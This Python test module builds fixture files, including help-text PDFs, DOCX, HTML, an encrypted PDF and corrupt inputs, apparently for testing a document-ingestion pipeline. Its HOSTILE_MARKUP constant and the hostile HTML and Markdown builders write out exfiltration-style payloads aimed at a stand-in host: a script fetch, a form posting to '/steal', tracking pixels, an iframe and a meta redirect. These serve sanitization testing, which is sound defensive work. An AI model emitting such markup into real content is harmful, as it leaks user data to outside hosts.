"""Build real fixture files (PDF, DOCX, HTML, text, broken inputs) in code for tests."""

import io
from pathlib import Path

from docx import Document
from fpdf import FPDF
from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter
from pypdf.errors import DependencyError

HOSTILE_HOST = "203.0.113.9"

PDF_PAGES = (
    (
        "Where can I get help?",
        "The Harbor Clinic offers free STI testing on Tuesdays. Call 555-010-2000 to book.",
    ),
    (
        "What are the clinic hours?",
        "The Harbor Clinic is open from 9 am to 5 pm on weekdays.",
    ),
)

DEFAULT_TEXT = (
    "When is the food bank open?\n\n"
    "The Juniper Food Bank is open Saturdays from 8 am.\n\n"
    "How do I volunteer?\n\n"
    "Email juniper@example.org to join the Saturday crew.\n"
)

HOSTILE_PASSAGE = "The Beacon Shelter takes walk-ins at night. Call 555-010-3000."

HOSTILE_MARKUP = (
    f"![x](http://{HOSTILE_HOST}/pixel.png)\n"
    f"[Click for help](http://{HOSTILE_HOST}/help)\n"
    f'<img src="http://{HOSTILE_HOST}/img.png">\n'
    f"<script>fetch('http://{HOSTILE_HOST}/x')</script>\n"
    f'<meta http-equiv="refresh" content="0;url=http://{HOSTILE_HOST}/">\n'
    f'<form action="http://{HOSTILE_HOST}/steal"><input name=q></form>\n'
    f'<iframe src="http://{HOSTILE_HOST}/"></iframe>\n'
    f"<style>@import url(http://{HOSTILE_HOST}/s.css)</style>\n"
)


def _write(directory: Path, name: str, data: bytes | str) -> Path:
    """Write bytes (or UTF-8 text) to directory/name and return the path."""
    path = Path(directory) / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def _pdf_bytes(pages: tuple[tuple[str, str], ...] = PDF_PAGES) -> bytes:
    """Render (heading, paragraph) pages to PDF bytes with a Helvetica text layer."""
    pdf = FPDF()
    for heading, paragraph in pages:
        pdf.add_page()
        pdf.set_font("Helvetica", style="B", size=16)
        pdf.multi_cell(0, 10, heading, new_x="LMARGIN", new_y="NEXT")
        pdf.ln(4)
        pdf.set_font("Helvetica", size=12)
        pdf.multi_cell(0, 7, paragraph, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def make_pdf(directory: Path, name: str = "guide.pdf") -> Path:
    """Write a 2-page text PDF with a question heading and answer on each page."""
    return _write(directory, name, _pdf_bytes())


def make_encrypted_pdf(directory: Path, name: str = "locked.pdf", password: str = "secret") -> Path:
    """Write the make_pdf content with a user password (AES-256, else RC4-128)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_bytes())))
    try:
        writer.encrypt(user_password=password, algorithm="AES-256")
    except DependencyError:  # AES needs the optional `cryptography` package
        writer.encrypt(user_password=password, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return _write(directory, name, buffer.getvalue())


def make_scanned_pdf(directory: Path, name: str = "scan.pdf") -> Path:
    """Write a 1-page PDF that holds only a raster image (no text layer)."""
    image = Image.new("RGB", (800, 1000), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((60, 60, 740, 200), outline="black", width=6)
    draw.ellipse((200, 300, 600, 700), fill="lightgray", outline="black")
    draw.text((100, 800), "Scanned notice: clinic open Mondays", fill="black")
    pdf = FPDF()
    pdf.add_page()
    pdf.image(image, x=10, y=10, w=190)
    return _write(directory, name, bytes(pdf.output()))


def make_picture_pdf(directory: Path, name: str = "picture.pdf") -> Path:
    """Write a 1-page image-only PDF of shapes with no words at all (a photo of nothing)."""
    image = Image.new("RGB", (800, 1000), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((60, 60, 740, 200), outline="black", width=6)
    draw.ellipse((200, 300, 600, 700), fill="lightgray", outline="black")
    pdf = FPDF()
    pdf.add_page()
    pdf.image(image, x=10, y=10, w=190)
    return _write(directory, name, bytes(pdf.output()))


def make_corrupt_pdf(directory: Path, name: str = "broken.pdf") -> Path:
    """Write a truncated PDF header followed by garbage that pypdf cannot read."""
    garbage = b"\x00\xff garbage \xde\xad\xbe\xef not a pdf body " * 8
    return _write(directory, name, b"%PDF-1.4\n" + _pdf_bytes()[9:200] + garbage)


def make_docx(directory: Path, name: str = "notes.docx") -> Path:
    """Write a DOCX with Heading 1/2 questions, body paragraphs and a bullet."""
    document = Document()
    document.add_heading("Volunteer notes", level=1)
    document.add_heading("Who runs the night van?", level=2)
    document.add_paragraph("The Lantern Project runs the night van on Fridays.")
    document.add_paragraph("Bring water and socks.", style="List Bullet")
    document.add_heading("How do I report a concern?", level=2)
    document.add_paragraph("Email the coordinator at coordinator@example.org.")
    path = Path(directory) / name
    document.save(str(path))
    return path


def make_html(directory: Path, name: str = "page.html") -> Path:
    """Write an HTML page with nav, script, style and footer boilerplate."""
    html = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Drop-in Centre</title>
<style>.x{color:red} /* STYLETEXT */</style>
<script>var tracking = 'SCRIPTTEXT';</script>
</head>
<body>
<nav><a href="/">Home</a> <a href="/about">About</a> <a href="/donate">Donate</a></nav>
<main>
<h1>Drop-in Centre</h1>
<h2>When is the centre open?</h2>
<p>The drop-in centre is open every Monday from 10 am.</p>
</main>
<footer>Copyright FOOTERTEXT</footer>
</body>
</html>
"""
    return _write(directory, name, html)


def make_hostile_html(directory: Path, name: str = "hostile.html") -> Path:
    """Write HTML with a help passage, escaped hostile markup text and a raw img."""
    escaped = HOSTILE_MARKUP.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    html = f"""<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>Beacon Shelter</title></head>
<body>
<h2>Where can I sleep tonight?</h2>
<p>{HOSTILE_PASSAGE}</p>
<p>{escaped}</p>
<img src="http://{HOSTILE_HOST}/img.png" alt="">
</body>
</html>
"""
    return _write(directory, name, html)


def make_hostile_markdown(directory: Path, name: str = "hostile.md") -> Path:
    """Write Markdown with a help passage plus literal hostile markup."""
    text = f"## Where can I sleep tonight?\n\n{HOSTILE_PASSAGE}\n\n{HOSTILE_MARKUP}"
    return _write(directory, name, text)


def make_text(directory: Path, name: str = "note.txt", text: str = DEFAULT_TEXT) -> Path:
    """Write UTF-8 text (default: Juniper Food Bank questions and answers)."""
    return _write(directory, name, text)


def make_empty(directory: Path, name: str = "empty.txt") -> Path:
    """Write a zero-byte file."""
    return _write(directory, name, b"")


def make_unknown(directory: Path, name: str = "data.xyz") -> Path:
    """Write arbitrary bytes under an unsupported extension."""
    return _write(directory, name, b"XYZ1\x00\x01\x02 opaque payload \xfe\xff\n")


def make_fake_pdf(directory: Path, name: str = "page.pdf") -> Path:
    """Write HTML content under a .pdf name."""
    return _write(directory, name, "<!DOCTYPE html><html><body><p>Not a PDF.</p></body></html>\n")


def make_not_zip_docx(directory: Path, name: str = "bad.docx") -> Path:
    """Write plain text bytes under a .docx name."""
    return _write(directory, name, b"This is plain text, not a zip archive.\n")
